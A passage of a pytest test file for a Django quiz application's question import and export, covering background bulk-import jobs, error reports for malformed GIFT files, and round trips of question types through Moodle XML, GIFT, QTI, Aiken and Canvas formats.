            f"{URL}/bulk-import", {"file": SimpleUploadedFile("many.gift", _many_questions(25))}, format="multipart"
        )
    assert r.status_code == 202 and r.json()["queued"] and r.json()["total_rows"] == 25
    status_url = r.json()["status_url"]
    job = api_for(teacher).get(status_url).json()
    assert job["status"] == "done" and job["progress"] == {"processed": 25, "total": 25}
    assert job["result"]["imported"] == 25 and Question.objects.filter(created_by=teacher).count() == 25
    # The job is its uploader's: another teacher gets 404, a student 403.
    assert api_for(other_teacher).get(status_url).status_code == 404
    assert api_for(student).get(status_url).status_code == 403
    # The page follows the same job, then shows its report.
    from quizzes.models import QuestionImportJob

    jobs = QuestionImportJob.objects.all()
    assert jobs.count() == 1 and bytes(jobs.get().content) == b""  # the file is not kept after the import


@pytest.mark.django_db
def test_the_import_page_sends_a_large_file_to_a_job(web, teacher, monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
    client = web(teacher)
    with django_capture_on_commit_callbacks(execute=True):
        r = client.post(
            reverse("quizzes:question_import"), {"file": SimpleUploadedFile("many.gift", _many_questions(12))}
        )
    assert r.status_code == 302 and "/quizzes/questions/import/" in r["Location"]
    page = client.get(r["Location"]).content.decode()
    assert "12 question(s) imported (0 with changes), 0 skipped." in page and "Question 11: is 11 even?" in page


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_large_file_is_imported_by_a_real_worker(api_for, teacher, monkeypatch):
    import time

    from tests.processes import celery_worker

    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
    with celery_worker() as worker:
        r = api_for(teacher).post(
            f"{URL}/bulk-import", {"file": SimpleUploadedFile("many.gift", _many_questions(600))}, format="multipart"
        )
        assert r.status_code == 202, r.json()
        deadline, job = time.monotonic() + 60, {}
        while time.monotonic() < deadline:
            job = api_for(teacher).get(r.json()["status_url"]).json()
            if job["status"] in ("done", "failed"):
                break
            time.sleep(0.25)
        assert job.get("status") == "done", f"job {job}; worker log:\n{worker.output()}"
    assert job["result"]["imported"] == 600 and Question.objects.filter(created_by=teacher).count() == 600


# --- ready for issue 15's types ------------------------------------------------------------------------------------


def test_issue15_shapes_from_real_files():
    """What Moodle's and the GIFT documentation's questions become in issue 15's shapes once it merges."""
    from quizzes.interchange.issue15 import issue15_fields

    gift = read_items(fixture("gift_examples.txt")).items
    assert issue15_fields(gift[30]) == {  # ~%-50%No one ~%50%Grant ~%50%Grant's wife ~%-50%Grant's father
        "general_feedback": "",
        "options": ["No one", "Grant", "Grant's wife", "Grant's father"],
        "details": {"correct": [1, 2], "scoring": "partial"},
    }
    assert issue15_fields(gift[18])["details"] == {  # {#=1822:0 =%50%1822:2}
        "answers": [
            {"value": 1822.0, "tolerance": 0.0, "fraction": 1.0},
            {"value": 1822.0, "tolerance": 2.0, "fraction": 0.5},
        ]
    }
    assert issue15_fields(gift[17])["details"] == {"answers": [{"value": 3.1415, "tolerance": 0.0005, "fraction": 1.0}]}
    assert issue15_fields(gift[14])["details"] == {
        "pairs": [
            {"prompt": "Canada", "answer": "Ottawa"},
            {"prompt": "Italy", "answer": "Rome"},
            {"prompt": "Japan", "answer": "Tokyo"},
            {"prompt": "India", "answer": "New Delhi"},
        ]
    }
    assert issue15_fields(gift[27])["details"] == {  # Jesus' hometown: partial credit and feedback kept
        "fractions": [0.0, 0.25, 0.5, 1.0],
        "feedback": [
            "This was an important city, but the wrong answer.",
            "He was born here, but not raised here.",
            "You need to be more specific.",
            "Yes! That's right!",
        ],
    }
    moodle = read_items(fixture("questions.gift.txt")).items
    assert issue15_fields(moodle[1])["details"]["distractors"] == ["Chat"]  # "= -> Chat" in Moodle's fixture
    assert issue15_fields(moodle[4])["details"] == {"answers": [{"value": 3.0, "tolerance": 2.0, "fraction": 1.0}]}


@pytest.mark.django_db
def test_the_page_lists_every_changed_or_skipped_question_and_the_first_plain_ones(web, teacher, monkeypatch):
    monkeypatch.setattr("quizzes.views.REPORT_PLAIN_ROWS", 3)
    data = _many_questions(6) + b"\n\nPi?{#three}\n\n::named::Named question?{T}"
    page = (
        web(teacher)
        .post(reverse("quizzes:question_import"), {"file": SimpleUploadedFile("q.gift", data), "dry_run": "on"})
        .content.decode()
    )
    assert "Question 2: is 2 even?" in page and "Question 3: is 3 even?" not in page
    assert "a numerical answer is not a number" in page and "title “named” not kept" in page
    assert "8 questions in the file: every question that changed or was skipped is listed" in page


@pytest.mark.django_db
def test_broken_gift_questions_are_reported_one_by_one(teacher):
    data = b"Never closed?{=a ~b\n\nNever opened? =a}\n\n::t::{=only an answer}\n\nPi?{#three}\n\nFine?{T}\n"
    result = run(teacher, data, "broken.gift", import_valid=True)
    assert reasons(result) == {
        1: "the answer block opened with { is never closed with }",
        2: "an answer block is closed with } but never opened with {",
        3: "the question has no text",
        4: "a numerical answer is not a number",
    }
    assert [q["source"] for q in result["questions"]][:3] == ["line 1", "line 3", "line 5 “t”"]
    assert result["imported"] == 1 and Question.objects.get().text == "Fine?"


def test_issue15_questions_export_from_their_details():
    """Questions shaped as issue 15 stores them (stand-ins here: this branch's Question has no `details`) are
    written by every format that can hold them, and a round trip through Moodle XML gives the same details back."""
    from types import SimpleNamespace

    from quizzes.interchange.export import export_questions
    from quizzes.interchange.issue15 import issue15_fields

    def q(qtype, text, options=None, details=None):
        return SimpleNamespace(pk=text, type=qtype, text=text, options=options, details=details or {}, topic="T",
                               marks=2, difficulty="medium", case_sensitive=False, sample_answer="",
                               marking_rubric="", correct_answer=None, accepted_answers=[],
                               general_feedback="")  # fmt: skip

    questions = [
        q("multiple_response", "Which are prime?", ["2", "3", "4", "9"], {"correct": [0, 1], "scoring": "partial"}),
        q("numeric", "Pi to 2 decimals?", None, {"answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1}]}),
        q("matching", "Capitals", None, {"pairs": [{"prompt": "France", "answer": "Paris"},
                                                  {"prompt": "Italy", "answer": "Rome"}], "distractors": ["Oslo"]}),
        q("ordering", "Order these", None, {"items": ["a", "b"]}),
        q("essay_plus", "A type nobody knows", None, {}),
    ]  # fmt: skip
    moodle = export_questions(questions, "moodle_xml")
    assert [r["status"] for r in moodle.report] == ["imported", "imported", "imported", "skipped", "skipped"]
    assert moodle.report[3]["reason"] == "ordering: this Moodle XML export does not write this type yet"
    assert (
        moodle.report[4]["reason"] == "essay_plus (unknown type): this Moodle XML export does not write this type yet"
    )
    gift_report = export_questions(questions, "gift").report
    assert [r["status"] for r in gift_report][3:] == ["skipped", "skipped"]  # never written half empty
    back = read_items(moodle.data).items
    assert [issue15_fields(i)["details"] for i in back] == [
        {"correct": [0, 1], "scoring": "partial"},
        {"answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1.0}]},
        {"pairs": [{"prompt": "France", "answer": "Paris"}, {"prompt": "Italy", "answer": "Rome"}],
         "distractors": ["Oslo"]},
    ]  # fmt: skip
    gift = export_questions(questions, "gift")
    assert [r["status"] for r in gift.report][:3] == ["imported_with_changes"] * 3  # GIFT has no marks
    assert gift.report[0]["changes"] == ["marks (2) not kept: the format has none, importers use 1"]
    assert [issue15_fields(i)["details"] for i in read_items(gift.data).items][1] == {
        "answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1.0}]
    }


@pytest.mark.django_db
def test_new_types_that_do_not_fit_are_skipped_with_the_reason_never_half_written(teacher):
    """Issue 15's types go through Question.clean(), as the API and the forms do: what it refuses is skipped."""
    options = " ".join(f"~%10%o{i}" for i in range(11))
    data = (
        b"One pair only{=Cat -> Chat}\n\n"
        + f"Eleven options{{{options}}}\n\n".encode()
        + b"Nothing right{~%-50%a ~%-50%b}\n\n"
        + b"Fine pairs{=Cat -> Chat =Dog -> Chien}\n"
    )
    result = run(teacher, data, "bad.gift", import_valid=True)
    assert reasons(result) == {
        1: "details: Give 2 to 10 prompts.",
        2: "11 options; a multiple-response question has at most 10",
        3: "no option is correct",
    }
    assert result["imported"] == 1
    assert Question.objects.get().details == {
        "pairs": [{"prompt": "Cat", "answer": "Chat"}, {"prompt": "Dog", "answer": "Chien"}]
    }


def _issue15_bank(teacher) -> list[Question]:
    """One question of each kind issue 15 added (and MCQ/true-false details), as the bank stores them."""

    def make(**fields):
        question = Question(created_by=teacher, topic="Round trip", marks=2, **fields)
        question.full_clean(exclude=["created_by"])
        question.save()
        return question

    return [
        make(text="Capital of Australia?", type=QuestionType.MCQ, options=["Sydney", "Canberra", "Perth"],
             correct_answer=1, details={"fractions": [0.5, 1, 0], "feedback": ["Largest city.", "Yes.", ""]},
             general_feedback="Canberra was built as a compromise."),
        make(text="Water boils at 100 °C at sea level.", type=QuestionType.TRUE_FALSE, options=["True", "False"],
             correct_answer=0, details={"feedback": ["Right.", "At sea level it does."]}),
        make(text="Which are prime?", type=QuestionType.MULTIPLE_RESPONSE, options=["2", "3", "4", "9"],
             details={"correct": [0, 1], "scoring": "partial", "feedback": ["", "", "4 = 2 × 2", "9 = 3 × 3"]}),
        make(text="Pi to two decimals?", type=QuestionType.NUMERIC,
             details={"answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1},
                                  {"value": 3.1, "tolerance": 0.05, "fraction": 0.5}]},
             general_feedback="π = 3.14159…"),
        make(text="Match the capitals", type=QuestionType.MATCHING,
             details={"pairs": [{"prompt": "France", "answer": "Paris"}, {"prompt": "Italy", "answer": "Rome"}],
                      "distractors": ["Oslo"]}),
        make(text="Put in order", type=QuestionType.ORDERING, details={"items": ["one", "two", "three"]}),
        make(text="The capital of France is [[1]]; {braces} ~ # / \\ stay text in [[2]].", type=QuestionType.CLOZE,
             details={"blanks": [{"id": 1, "answers": ["Paris", "París"], "marks": 2, "case_sensitive": False},
                                 {"id": 2, "answers": ["a}b~c#d/e\\f"], "marks": 1, "case_sensitive": True}]}),
    ]  # fmt: skip


def _shape(question) -> tuple:
    return (question.type, question.options, question.correct_answer, question.details, question.general_feedback)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("fmt", "lost"),
    [
        ("moodle_xml", {}),
        ("gift", {"marks": True}),
        ("qti21", {"marks": False, "option_details": True}),
    ],
)
def test_issue15_types_round_trip(teacher, other_teacher, fmt, lost):
    """Export issue 15's types and import the file into another bank: the same questions, except what the export
    report said the format loses; ordering is "not exportable" with the reason."""
    from quizzes.interchange.export import export_questions

    bank = _issue15_bank(teacher)
    exported = export_questions(bank, fmt)
    report = {r["text"]: r for r in exported.report}
    assert report["Put in order"]["status"] == "skipped" and report["Put in order"]["reason"].startswith("ordering: ")
    result = run(other_teacher, exported.data, f"bank.{exported.filename}")
    assert not reasons(result)
    back = {q.text: q for q in Question.objects.filter(created_by=other_teacher)}
    cloze = report[bank[6].text]
    if fmt == "moodle_xml":  # cloze is Moodle's multianswer, gaps as {marks:SHORTANSWER(_C):=answer~=answer}
        assert result["imported"] == 6 and cloze["status"] == "imported"
        assert b"{2:SHORTANSWER:=Paris~=Par\xc3\xads}" in exported.data
        assert _shape(back[bank[6].text]) == _shape(bank[6]) and back[bank[6].text].marks == 2
    else:
        assert result["imported"] == 5 and cloze["status"] == "skipped"
        assert cloze["reason"].startswith("cloze (embedded answers): ")
    for question in bank[:5]:
        got = back[question.text]
        expected = _shape(question)
        if lost.get("option_details") and question.type in (QuestionType.MCQ, QuestionType.TRUE_FALSE):
            expected = (*expected[:3], {}, expected[4])
        if lost.get("option_details") and question.type == QuestionType.MULTIPLE_RESPONSE:
            expected = (*expected[:3], {"correct": [0, 1], "scoring": "partial"}, expected[4])
        assert _shape(got) == expected, question.text
        assert got.marks == (1 if lost.get("marks") else 2) and got.topic == "Round trip"
    if fmt == "qti21":
        assert report["Capital of Australia?"]["changes"] == [
            "partial credit for near answers not kept: only the correct option scores",
            "per-option feedback not kept",
        ]
        assert report["Which are prime?"]["changes"] == [
            "per-option feedback not kept",
            "scoring “partial” written as all or nothing (the format's only rule)",
        ]
    else:
        assert report["Capital of Australia?"]["status"] == (
            "imported" if fmt == "moodle_xml" else "imported_with_changes"
        )


@pytest.mark.django_db
def test_export_reports_what_aiken_and_canvas_lose_of_the_details(teacher, media):
    import base64

    from quizzes.interchange.export import export_questions

    bank = _issue15_bank(teacher)
    services.question_image_add(question=bank[0], by=teacher.user, alt_text="A map",
                                upload=SimpleUploadedFile("map.png", base64.b64decode(PNG)))  # fmt: skip
    moodle = {r["text"]: r for r in export_questions(bank, "moodle_xml").report}
    assert moodle["Capital of Australia?"]["changes"] == ["1 image(s) not exported (the export writes text only)"]
    aiken = {r["text"]: r for r in export_questions(bank, "aiken").report}
    assert aiken["Capital of Australia?"]["changes"] == [
        "topic “Round trip” not kept (Aiken has no categories)",
        "marks (2) not kept: the format has none, importers use 1",
        "partial credit for near answers not kept: only the correct option scores",
        "per-option feedback not kept",
        "general feedback not kept",
        "1 image(s) not exported (the export writes text only)",
    ]
    canvas = {r["text"]: r for r in export_questions(bank, "qti12").report}
    assert canvas["Match the capitals"]["status"] == "skipped"
    assert canvas["Water boils at 100 °C at sea level."]["changes"] == [
        "topic “Round trip” not kept (Canvas QTI 1.2 package has no categories)",
        "per-option feedback not kept",
    ]


@pytest.mark.django_db
def test_moodle_images_that_are_not_images_are_reported_not_imported(teacher, media):
    """A file named .png that is not one, an SVG (refused as uploads are) and an image in an option: the question is
    imported, each image said in the report, nothing half-stored."""
    data = (
        PLUGINFILE_XML.replace(b'alt="a logo"', b"")
        .replace(
            b'<file name="hello.mp3" path="/" encoding="base64">SUQzAwAAAAAAEFRDT04=</file>',
            b'<file name="fake.png" path="/" encoding="base64">bm90IGFuIGltYWdl</file>'
            b'<file name="drawing.svg" path="/" encoding="base64">PHN2Zy8+</file>',
        )
        .replace(
            b'<feedback format="html"><text>Yes.</text></feedback></answer>',
            b'<feedback format="html"><text>Yes.</text></feedback>'
            b'<file name="answer.png" path="/" encoding="base64">' + PNG.encode() + b"</file></answer>",
        )
    )
    result = run(teacher, data, "logo.xml")
    assert changes(result, 1)[1:5] == [
        "image(s) “answer.png” in the answers not imported (options hold text only)",
        "image “logo.png”: alt text “logo” made from its file name (describe the image)",
        "image “fake.png” not imported: This file is not a readable PNG, JPEG or GIF image.",
        "image “drawing.svg” not imported: This file is not a readable PNG, JPEG or GIF image.",
    ]
    question = Question.objects.get()
    assert [i.alt_text for i in question.images.all()] == ["logo"]
    assert len(list(media.rglob("*.*"))) == 1


CANVAS_12_NEW_TYPES = b"""<?xml version="1.0" encoding="UTF-8"?>
<questestinterop xmlns="http://www.imsglobal.org/xsd/ims_qtiasiv1p2">
  <assessment ident="a1" title="Quiz"><section ident="root_section">
    <item ident="i1" title="Primes">
      <itemmetadata><qtimetadata>
        <qtimetadatafield><fieldlabel>question_type</fieldlabel><fieldentry>multiple_answers_question</fieldentry>
        </qtimetadatafield></qtimetadata></itemmetadata>
      <presentation><material><mattext texttype="text/html">Which are prime?</mattext></material>
        <response_lid ident="response1" rcardinality="Multiple"><render_choice>
          <response_label ident="a"><material><mattext>2</mattext></material></response_label>
          <response_label ident="b"><material><mattext>4</mattext></material></response_label>
          <response_label ident="c"><material><mattext>5</mattext></material></response_label>
        </render_choice></response_lid></presentation>
      <resprocessing><outcomes><decvar maxvalue="100" minvalue="0" varname="SCORE" vartype="Decimal"/></outcomes>
        <respcondition continue="No"><conditionvar><and><varequal respident="response1">a</varequal>
          <not><varequal respident="response1">b</varequal></not><varequal respident="response1">c</varequal>
        </and></conditionvar><setvar action="Set" varname="SCORE">100</setvar></respcondition>
      </resprocessing>
    </item>
    <item ident="i2" title="Pi">
      <itemmetadata><qtimetadata>
        <qtimetadatafield><fieldlabel>question_type</fieldlabel><fieldentry>numerical_question</fieldentry>
        </qtimetadatafield></qtimetadata></itemmetadata>
      <presentation><material><mattext>Pi?</mattext></material>
        <response_str ident="response1" rcardinality="Single"><render_fib fibtype="Decimal"/></response_str>
      </presentation>
    </item>
  </section></assessment>
</questestinterop>"""


@pytest.mark.django_db
def test_canvas_qti_12_multiple_answers_and_unread_numerical(teacher):
    result = run(teacher, CANVAS_12_NEW_TYPES, "canvas.xml", import_valid=True)
    assert result["format"] == "qti12"
    assert reasons(result) == {2: "no accepted value could be read from the file"}
    question = Question.objects.get()
    assert (question.type, question.options, question.details) == (
        QuestionType.MULTIPLE_RESPONSE, ["2", "4", "5"], {"correct": [0, 2], "scoring": "partial"})  # fmt: skip


@pytest.mark.django_db
def test_moodle_cloze_with_typed_gaps_becomes_a_cloze_question(teacher):
    """Moodle's own gap of sample_questions_with_old_image_tag.xml (partial credit, feedback, a * catch-all) next to
    a case-sensitive gap with an escaped brace."""
    data = b"""<?xml version="1.0" encoding="UTF-8"?><quiz><question type="cloze"><name><text>c</text></name>
<questiontext format="html"><text><![CDATA[<p>The capital of France is {1:SHORTANSWER:%100%Paris#Congratulations!<br />
~%50%Marseille#No, that is the second largest city in France (after<br />Paris).~*#Wrong answer.}.
Code: {2:SAC:=x\\}y}</p>]]></text></questiontext></question></quiz>"""
    result = run(teacher, data, "cloze.xml")
    assert changes(result, 1) == [
        "partial credit dropped for “Marseille” (50%): only fully correct answers score",
        "feedback in the gaps not kept (blanks have no per-answer feedback)",
        "title “c” not kept (questions have no title)",
    ]
    question = Question.objects.get()
    assert question.type == QuestionType.CLOZE
    assert question.text == "The capital of France is [[1]]. Code: [[2]]"
    assert question.details == {
        "blanks": [
            {"id": 1, "answers": ["Paris"], "marks": 1, "case_sensitive": False},
            {"id": 2, "answers": ["x}y"], "marks": 2, "case_sensitive": True},  # {2:…}: the gap's weight
        ]
    }
